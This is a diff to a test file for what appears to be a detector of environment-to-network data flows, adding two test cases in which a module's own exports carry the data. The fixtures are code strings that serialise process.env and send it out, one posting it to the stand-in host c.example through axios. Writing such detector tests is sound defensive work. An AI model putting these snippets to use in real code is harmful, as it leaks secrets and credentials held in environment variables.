@@ -524,6 +524,21 @@ test.each(UNDER.map(([name, code]) => ({ name, code })))('whole, under $name', (
   expect(flowsIn(code)).toContain('environment to network');
 });
 
+const OWN_EXPORTS: readonly Row[] = [
+  [
+    'functions that it exports',
+    'exports.send=(x)=>{SEND«x»};exports.all=()=>JSON.stringify(process.env);(0,exports.send)((0,exports.all)())',
+  ],
+  [
+    'a client that it exports',
+    "exports.http=require('axios').create({baseURL:'https://c.example'});exports.http.post('/x',{...process.env})",
+  ],
+];
+
+test.each(OWN_EXPORTS.map(([name, code]) => ({ name, code })))('a module that uses $name', ({ code }) => {
+  expect(flowsIn(code)).toContain('environment to network');
+});
+
 describe('what is collected and sent', () => testLeaving([...SOURCES, ...SINKS, ...WAYS]));
 
 const OTHER: readonly (readonly [name: string, code: string, flow: string])[] = [
